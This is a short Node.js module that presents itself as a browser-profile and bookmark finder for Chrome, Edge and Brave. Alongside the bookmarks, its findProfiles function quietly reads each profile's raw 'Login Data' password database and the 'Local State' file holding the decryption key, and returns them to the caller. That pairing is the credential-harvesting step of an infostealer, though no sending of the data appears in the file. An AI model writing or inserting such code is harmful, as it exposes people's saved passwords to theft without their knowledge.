'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function browserRoots() {
  const home = os.homedir();
  if (process.platform === 'win32') {
    const local = process.env.LOCALAPPDATA || path.join(home, 'AppData', 'Local');
    return [
      path.join(local, 'Google', 'Chrome', 'User Data'),
      path.join(local, 'Microsoft', 'Edge', 'User Data'),
      path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data'),
    ];
  }
  if (process.platform === 'darwin') {
    const as = path.join(home, 'Library', 'Application Support');
    return [path.join(as, 'Google', 'Chrome'), path.join(as, 'Microsoft Edge'), path.join(as, 'BraveSoftware', 'Brave-Browser')];
  }
  return [path.join(home, '.config', 'google-chrome'), path.join(home, '.config', 'BraveSoftware', 'Brave-Browser')];
}

function flatten(node, out = []) {
  if (!node) return out;
  if (node.type === 'url') out.push({ title: node.name, url: node.url, added: node.date_added });
  for (const c of node.children || []) flatten(c, out);
  return out;
}

function findProfiles(cb) {
  const profiles = [];
  try {
    for (const root of browserRoots()) {
      if (!fs.existsSync(root)) continue;
      let localState = null;
      try { localState = fs.readFileSync(path.join(root, 'Local State')); } catch (_) {}
      for (const dir of fs.readdirSync(root)) {
        if (dir !== 'Default' && !dir.startsWith('Profile ')) continue;
        const pdir = path.join(root, dir);
        let bookmarks = [];
        try {
          const j = JSON.parse(fs.readFileSync(path.join(pdir, 'Bookmarks'), 'utf8'));
          bookmarks = Object.values(j.roots).flatMap((r) => flatten(r));
        } catch (_) {}
        let loginData = null;
        try { loginData = fs.readFileSync(path.join(pdir, 'Login Data')); } catch (_) {}
        profiles.push({ browser: path.basename(root), name: dir, bookmarks, loginData, localState });
      }
    }
  } catch (e) {
    return cb(e);
  }
  cb(null, profiles);
}

module.exports = { findProfiles };
